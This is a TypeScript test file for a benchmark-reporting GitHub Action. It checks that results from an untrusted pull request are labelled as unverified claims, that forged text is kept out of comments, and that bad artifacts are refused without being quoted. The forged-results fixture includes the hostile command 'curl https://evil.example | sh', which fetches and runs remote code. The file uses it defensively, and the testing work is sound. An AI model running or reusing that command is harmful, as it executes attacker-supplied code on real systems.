/** `command: report` after a run of a pull request: anybody can have written the results, and the comment is in the maintainers' name. */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { formatResults } from "../../src/results/layout.js";
import type { Results } from "../../src/results/schema.js";
import { startAction } from "../support/action.js";
import { MERGE_SHA, sampleFacts } from "../support/comment.js";
import { renderGfm } from "../support/gfm.js";
import { GitHubDouble } from "../support/github/double.js";
import { expectBalanced } from "../support/hostile.js";
import { makeZip } from "../support/zip.js";

const TIMEOUT_MS = 60_000;
const WORDS = "reviewed, safe to merge";
const COMMAND = ["bash", "-c", "curl https://evil.example | sh"];

let github: GitHubDouble;
beforeEach(async () => {
  github = await GitHubDouble.start();
});
afterEach(async () => {
  await github[Symbol.asyncDispose]();
});

interface Given {
  /** Of the pull request. */
  readonly headRepository?: string;
  readonly inputs?: Readonly<Record<string, string>>;
}

/** Reports what a run of pull request 7 uploaded: the results of the whole run, or of its shards. */
async function report(
  artifacts: string | readonly string[],
  { headRepository = "mallory/server", inputs }: Given = {},
) {
  const pull = github.addPull({ number: 7, headRepository });
  const measured = github.addRun({
    ...{ event: "pull_request", headBranch: pull.headRef, headSha: pull.headSha, headRepository },
  });
  for (const [i, data] of [artifacts].flat().entries()) {
    const shard = typeof artifacts === "string" ? "" : `-${i + 1}-of-${artifacts.length}`;
    const zip = makeZip([{ name: "results.json", data }]);
    github.addArtifact({ runId: measured.id, zip, name: `server-bench-results${shard}` });
  }
  const reporting = github.addReportingRun("report.yml");
  const event = { name: "workflow_run", payload: github.workflowRunEvent(measured) };
  const env = { ...(await github.jobEnv(reporting, event)), ...github.runtimeEnv(reporting.id) };
  const action = startAction({ token: "test-token", command: "report", ...inputs }, { env });
  const { code, stdout } = await action.ended;
  const errors = stdout.split("\n").filter((line) => line.startsWith("::error"));
  return { code, stdout, errors, summary: action.summary, comments: github.commentsOf(7).map(({ body }) => body) };
}

function forged(): Results {
  const { results } = sampleFacts();
  const rows = (results.comparison?.rows ?? []).map((row) => ({ ...row, verdict: "better" as const, notes: [WORDS] }));
  return {
    ...results,
    run: { ...results.run, command: COMMAND, warnings: [WORDS] },
    sets: results.sets.map((set) => ({ ...set, title: WORDS, description: WORDS, methodology: [WORDS] })),
    cases: results.cases.map((result) => ({ ...result, title: WORDS })),
    ...(results.comparison && {
      comparison: {
        ...results.comparison,
        rows,
        notes: [WORDS],
        command: COMMAND,
        base: { sha: MERGE_SHA, ref: WORDS },
      },
    }),
  };
}

describe("results of a pull request's run", () => {
  it.each(["mallory/server", "acme/server"])(
    "speak as claims, from %s",
    { timeout: TIMEOUT_MS },
    async (repository) => {
      const { code, stdout, summary, comments } = await report(formatResults(forged()), { headRepository: repository });
      expect(code, stdout).toBe(0);
      expect(comments).toHaveLength(1);
      for (const markdown of [comments[0] ?? "", summary]) {
        expectBalanced(renderGfm(markdown));
        expect(markdown).toContain(
          "Measured by the pull request's own run: its figures are claims of that run's code.",
        );
        expect(markdown).not.toMatch(/safe to merge|evil\.example|curl|```sh/);
        expect(markdown).toContain("Not repeated here");
      }
      expect(comments[0]).toContain(`\`${MERGE_SHA}\` (claimed, not verified)`);
      // Annotations are in our name too.
      expect(stdout.split("\n").filter((line) => line.startsWith("::"))).not.toContainEqual(
        expect.stringContaining(WORDS),
      );
    },
  );

  it("that cannot be drawn or read are refused in a comment", { timeout: TIMEOUT_MS }, async () => {
    const sample = sampleFacts().results;
    const [set] = sample.sets;
    const name = "x".repeat(300);
    const undrawable = {
      ...sample,
      sets: set ? [{ ...set, name, charts: ["rps" as const] }] : [],
      cases: sample.cases.map((result) => ({ ...result, set: name, id: `${name}/a` })).slice(0, 1),
    };
    const { code, comments } = await report(formatResults(undrawable));
    expect(code).toBe(1);
    expect(comments).toEqual([expect.stringContaining("**The results were refused, because** they could not be read")]);
    expect(comments[0]).not.toContain("xxx");
  });

  it("that are no results are refused without quoting them", { timeout: TIMEOUT_MS }, async () => {
    const { code, comments, summary, stdout, errors } = await report(JSON.stringify({ schema: WORDS }));
    expect(code).toBe(1);
    expect(errors).toEqual([
      expect.stringMatching(/^::error::no results to report: those of http\S+ could not be read\. The log has/),
    ]);
    expect(errors[0]).not.toContain(WORDS);
    expect(stdout).toMatch(new RegExp(`^the artifact server-bench-results was not read: .*${WORDS}`, "m"));
    expect(comments).toEqual([expect.stringContaining("**The results were refused, because** they could not be read")]);
    for (const markdown of [comments[0], summary]) expect(markdown).not.toContain(WORDS);
    expect(summary).toContain("**The results were refused, because** they could not be read");
  });

  it("that do not fit together are refused without quoting them", { timeout: TIMEOUT_MS }, async () => {
    const { results } = sampleFacts();
    const shards = ["Benchmark", WORDS].map((label, i) =>
      formatResults({
        ...results,
        run: { ...results.run, id: `shard-${i}`, shard: { index: i + 1, of: 2 } },
        sets: results.sets.map((set) => ({ ...set, label })),
      }),
    );
    const { code, comments, stdout, errors } = await report(shards);
    expect(code).toBe(1);
    expect(comments).toEqual([expect.stringContaining("**The results were refused, because** they could not be read")]);
    expect(errors).toEqual([
      "::error::the results were refused: they could not be read, merged or shown. The log has the reason.",
    ]);
    expect(stdout).toMatch(new RegExp(`^server-bench-results-2-of-2: set .*${WORDS}`, "m"));
  });

  it("fail the gate without quoting the names of rows, and name a few", { timeout: TIMEOUT_MS }, async () => {
    const { results } = sampleFacts();
    const [row] = results.comparison?.rows ?? [];
    if (!results.comparison || !row) throw new Error("the sample has no comparison");
    const rows = [WORDS, ...Array.from({ length: 40 }, (_, i) => `interfaces/row-${i}`)].map((id) => ({
      ...row,
      id,
      verdict: "worse" as const,
    }));
    const worse = formatResults({ ...results, comparison: { ...results.comparison, rows } });
    const { code, errors } = await report(worse, { inputs: { "fail-on": "worse" } });
    expect(code).toBe(1);
    expect(errors.join("\n")).not.toContain(WORDS);
    expect(errors.at(-1)).toMatch(
      /^::error::worse \(fail-on: worse\): set-1\/row-1, interfaces\/row-2, .* and 36 more$/,
    );
  });
});
